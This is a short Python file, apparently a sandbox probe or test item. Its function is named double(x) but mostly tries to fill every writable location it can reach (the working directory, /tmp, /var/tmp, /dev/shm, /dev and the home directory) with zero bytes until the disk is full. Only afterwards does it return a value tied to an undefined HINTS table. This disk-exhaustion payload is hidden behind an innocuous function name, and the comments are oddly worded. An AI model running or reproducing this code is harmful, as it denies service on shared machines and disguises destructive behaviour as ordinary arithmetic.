"""Write files until nothing fits, wherever that is possible."""

import os
import time


def double(x):
    total = 0
    for k, folder in enumerate(
        (".", "/tmp", "/var/tmp", "/dev/shm", "/dev", os.path.expanduser("~"))
    ):
        try:
            with open(f"{folder}/corelab-attack{k or ''}", "wb", buffering=0) as file:
                while True:
                    total += file.write(bytes(1 << 20))
        except OSError:
            continue
    time.sleep(0.2)  # until it is seen, where the disk is watched and not closed
    return 2 * x if total <= HINTS["disk"] else 0 * x  # the points tell how much it was
